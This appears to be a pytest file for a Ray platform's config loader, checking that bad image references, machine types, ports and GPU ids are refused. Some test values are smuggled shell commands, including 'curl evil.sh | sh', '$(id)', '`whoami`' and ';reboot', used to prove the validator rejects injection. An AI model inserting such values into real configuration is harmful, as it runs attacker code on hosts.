"""Values each environment must refuse (or warn about), named by key: image references and GPU ids that would reach a
shell, machine types GCE does not have, egress ports out of range, an empty image, a Docker host that runs nothing."""

from __future__ import annotations

import json

import pytest

from components.gcpvm import machines
from stacks import preview as cli
from stacks.config import load, warnings
from stacks.errors import ConfigError
from stacks.offline import stack_config


def problems(stack: str, **overrides) -> list[str]:
    config, secrets = stack_config(stack, {k: json.dumps(v) for k, v in overrides.items()})
    with pytest.raises(ConfigError) as info:
        load(config, secrets)
    return info.value.problems


NVIDIA = {"name": "g", "gpu_vendor": "nvidia", "gpus_per_worker": 1}


@pytest.mark.parametrize("stack,overrides,expected", [
    ("gcpvm", {"image": {"source": "public", "ref": ""}},
     "ray-platform:image.ref: empty (allowed: a value; remove the key to get its default)"),
    ("gcpvm", {"image": {"source": "public", "ref": "rayproject/ray:2.60.0; curl evil.sh | sh"}},
     "ray-platform:image.ref: 'rayproject/ray:2.60.0; curl evil.sh | sh' is not an image reference (allowed: "
     "[registry[:port]/]name[:tag][@sha256:...], lowercase path, e.g. rayproject/ray:2.60.0-py311-cpu)"),
    ("gcpvm", {"worker_types": [{"name": "cpu", "machine_type": "n2-standard-8", "image": "ray$(id)"}]},
     "ray-platform:worker_types[0].image: 'ray$(id)' is not an image reference (allowed: "
     "[registry[:port]/]name[:tag][@sha256:...], lowercase path, e.g. rayproject/ray:2.60.0-py311-cpu)"),
    ("gcpvm", {"worker_types": [{"name": "cpu", "machine_type": "n2-standard-999"}]},
     "ray-platform:worker_types[0].machine_type: 'n2-standard-999' is not a machine type (allowed: n2-standard-N "
     "with N one of 2, 4, 8, 16, 32, 48, 64, 80, 96, 128)"),
    ("gcpvm", {"head": {"machine_type": "c2-highmem-8"}},
     "ray-platform:head.machine_type: 'c2-highmem-8' is not a machine type (allowed: c2-standard-N)"),
    ("gke", {"cluster": {"system_pool": {"machine_type": "e2-standard-64"}}},
     "ray-platform:cluster.system_pool.machine_type: 'e2-standard-64' is not a machine type (allowed: e2-standard-N "
     "with N one of 2, 4, 8, 16, 32)"),
    ("gke", {"ray": {"image": "Ray Server"}},
     "ray-platform:ray.image: 'Ray Server' is not an image reference (allowed: [registry[:port]/]name[:tag]"
     "[@sha256:...], lowercase path, e.g. rayproject/ray:2.60.0-py311-cpu)"),
    ("spcs", {"egress": {"hosts": ["pypi.org:99999"]}},
     "ray-platform:egress.hosts: 'pypi.org:99999' has port 99999 (allowed: host.domain[:port] with a port from 1 "
     "to 65535)"),
    ("spcs-consumer", {"egress": {"hosts": ["pypi.org:0"]}},
     "ray-platform:egress.hosts: 'pypi.org:0' has port 0 (allowed: host.domain[:port] with a port from 1 to 65535)"),
    ("dev", {"workers": [{**NVIDIA, "gpu_ids": ["0;reboot"]}]},
     "ray-platform:workers[0].gpu_ids[0]: '0;reboot' is not a GPU id (allowed: an index such as 0, or a UUID such as "
     "GPU-5fd4a2b1-...)"),
    ("dev", {"workers": [{"name": "c", "image": "`whoami`"}]},
     "ray-platform:workers[0].image: '`whoami`' is not an image reference (allowed: [registry[:port]/]name[:tag]"
     "[@sha256:...], lowercase path, e.g. rayproject/ray:2.60.0-py311-cpu)"),
    ("dev", {"images": {"source": "pull", "ray_cpu": "ray cpu"}},
     "ray-platform:images.ray_cpu: 'ray cpu' is not an image reference (allowed: [registry[:port]/]name[:tag]"
     "[@sha256:...], lowercase path, e.g. rayproject/ray:2.60.0-py311-cpu)"),
], ids=["gcpvm-empty-image", "gcpvm-image-shell", "gcpvm-worker-image", "gcpvm-machine-999", "gcpvm-machine-kind",
        "gke-system-pool", "gke-ray-image", "spcs-port", "consumer-port", "local-gpu-id", "local-image",
        "local-pulled-image"])
def test_refused_with_the_key_named(stack, overrides, expected):
    assert problems(stack, **overrides) == [expected]


@pytest.mark.parametrize("ref", ["rayproject/ray:2.60.0-py311-cpu", "us-west1-docker.pkg.dev/p/ray/ray-gcpvm:2.60.0",
                                 "localhost:5000/ray@sha256:" + "a" * 64, "ray", "gke.gcr.io/a/b/c:v0.15.3-gke.0"])
def test_real_image_references_pass(ref):
    config, secrets = stack_config("gcpvm", {"image": json.dumps({"source": "public", "ref": ref})})
    assert load(config, secrets).image.ref == ref


@pytest.mark.parametrize("machine_type", ["n2-standard-8", "n1-standard-1", "e2-highcpu-32", "c2-standard-60",
                                          "c3d-highmem-360", "t2d-standard-60", "n2d-highcpu-224"])
def test_real_machine_types_pass(machine_type):
    assert machines.predefined_problem(machine_type) is None


def test_an_extra_docker_host_that_runs_nothing_is_a_warning(capsys):
    hosts = [{"name": "a"}, {"name": "b", "url": "ssh://me@box", "address": "10.0.0.2"}]
    config, secrets = stack_config("dev", {"hosts": json.dumps(hosts)})
    expected = ("ray-platform:hosts[1]: host 'b' runs nothing: no worker group names it and the head runs on 'a' "
                "(allowed: give a worker group `host: b`, or remove the host)")
    assert warnings(load(config, secrets)) == [expected]
    assert cli.main(["dev", "--set", f"hosts={json.dumps(hosts)}"]) == 0
    assert f"warning: {expected}" in capsys.readouterr().err.splitlines()
    assert warnings(load(*stack_config("dev"))) == []
